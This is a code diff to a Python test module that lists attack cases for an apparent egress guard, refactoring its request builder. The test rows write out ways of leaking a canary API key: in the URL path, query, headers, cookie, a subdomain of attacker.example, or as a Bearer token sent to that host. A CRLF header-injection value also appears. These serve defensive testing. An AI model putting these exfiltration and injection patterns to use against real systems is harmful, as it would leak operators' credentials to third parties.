@@ -2,10 +2,11 @@
 
 from __future__ import annotations
 
-import json
+from functools import partial
 from typing import Final
 
 from fumehood.testing.gallery.attacks import HARMLESS, STUB, Attack
+from fumehood.testing.gallery.documents import around_key, wire
 
 CANARY: Final = "sk-canary-5f3a91c07be2"
 """The operator's key in every row below; no byte of it may reach anything but its one header."""
@@ -23,14 +24,10 @@ _CONFIG: Final = {"base_url": STUB, "api_key": CANARY, "model": "m"}
 _HERE: Final = f"{STUB}chat/completions"
 
 
-def _ask(uri: str = _HERE, *, method: str = "POST", **headers: str) -> str:
-    """A wire request without a body; `KEY` in it marks the place of the key."""
-    head = {"method": method, "uri": uri, "headers": headers, "version": "HTTP/1.1"}
-    return json.dumps({"req": {"head": head, "body": []}})
+_ask: Final = partial(wire, method="POST")
 
 
 def _leak(name: str, request: str, expect: str = "EgressDenied", **detail: str) -> Attack:
-    prefix, _, suffix = request.partition("KEY")
     return Attack(
         name,
         "secrets",
@@ -40,7 +37,7 @@ def _leak(name: str, request: str, expect: str = "EgressDenied", **detail: str) 
         detail=detail or {"reason": "secret"},
         config=_CONFIG,
         chat=True,
-        fill={"prefix": prefix, "suffix": suffix},
+        fill=around_key(request),
     )
 
 
@@ -58,7 +55,7 @@ def _odd(name: str, group: str, promise: str, expect: str, model: str = "m", **f
     )
 
 
-_BODY: Final = _ask().replace('"body": []', '"body": [KEY')
+_BODY: Final = _ask(_HERE).replace('"body": []', '"body": [KEY')
 _GOOD: Final = _ask(f"{STUB}models", method="GET", authorization="Bearer KEY")
 _GET: Final = _ask(f"{STUB}models", method="GET")
 _DEEP: Final = '{"properties":' * 2_000 + "{}" + "}" * 2_000
@@ -66,10 +63,10 @@ _DEEP: Final = '{"properties":' * 2_000 + "{}" + "}" * 2_000
 LEAKS: Final = (
     _leak("key_in_path", _ask(f"{STUB}KEY")),
     _leak("key_in_query", _ask(f"{_HERE}?k=KEY")),
-    _leak("key_in_header", _ask(**{"x-collect": "KEY"})),
-    _leak("key_in_user_agent", _ask(**{"user-agent": "agent KEY"})),
+    _leak("key_in_header", _ask(_HERE, **{"x-collect": "KEY"})),
+    _leak("key_in_user_agent", _ask(_HERE, **{"user-agent": "agent KEY"})),
     _leak("key_in_host", _ask("https://KEY.attacker.example/"), reason="host"),
-    _leak("key_in_cookie", _ask(**{"cookie": "k=KEY"}), reason="header"),
+    _leak("key_in_cookie", _ask(_HERE, **{"cookie": "k=KEY"}), reason="header"),
     _leak(
         "key_to_other_host",
         _ask("https://attacker.example/", authorization="Bearer KEY"),
@@ -98,7 +95,7 @@ LEAKS: Final = (
         answer=b"hello",
         config=_CONFIG,
         chat=True,
-        fill={"prefix": _GOOD.partition("KEY")[0], "suffix": _GOOD.partition("KEY")[2]},
+        fill=around_key(_GOOD),
     ),
 )
 
@@ -125,7 +122,7 @@ MEETINGS: Final = (
         guest="provider",
         detail={"reason": "address"},
         chat=True,
-        fill={"base_url": STUB, "prefix": _ask()},
+        fill={"base_url": STUB, "prefix": _ask(_HERE)},
     ),
 )
 
@@ -135,9 +132,9 @@ ODDITIES: Final = (
     _odd("request_has_nan", "JSON", ANSWERS, "ProtocolError", prefix='{"req":NaN}'),
     _odd("request_has_surrogate", "UTF-8", ANSWERS, "ProtocolError", prefix='{"req":"\\ud800"}'),
     _odd("request_splits_header", "headers", ANSWERS, "Error",
-         prefix=_ask(**{"x-a": "b\r\nx-injected: yes"})),
+         prefix=_ask(_HERE, **{"x-a": "b\r\nx-injected: yes"})),
     _odd("request_bad_method", "headers", ANSWERS, "Error",
-         prefix=_ask(method="CONNECT")),
+         prefix=_ask(_HERE, method="CONNECT")),
     _odd("reply_is_no_json", "JSON", ANSWERS, "ProtocolError", reply="hello"),
     _odd("reply_is_deep", "JSON", ANSWERS, "ProtocolError", reply="[" * 3_000),
     _odd("reply_has_long_number", "JSON", ANSWERS, "ProtocolError",
